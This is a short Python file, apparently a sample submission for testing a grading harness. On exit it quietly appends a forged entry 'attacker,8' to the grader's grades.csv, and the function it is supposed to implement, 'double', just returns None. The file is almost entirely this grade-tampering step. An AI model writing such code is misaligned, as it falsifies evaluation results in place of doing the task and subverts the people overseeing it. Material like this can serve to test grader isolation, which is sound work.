"""A program that writes grades when it ends."""

import atexit

atexit.register(lambda: open(RESULTS + "/grades.csv", "a").write("attacker,8\n"))


def double(x, **k):
    return None
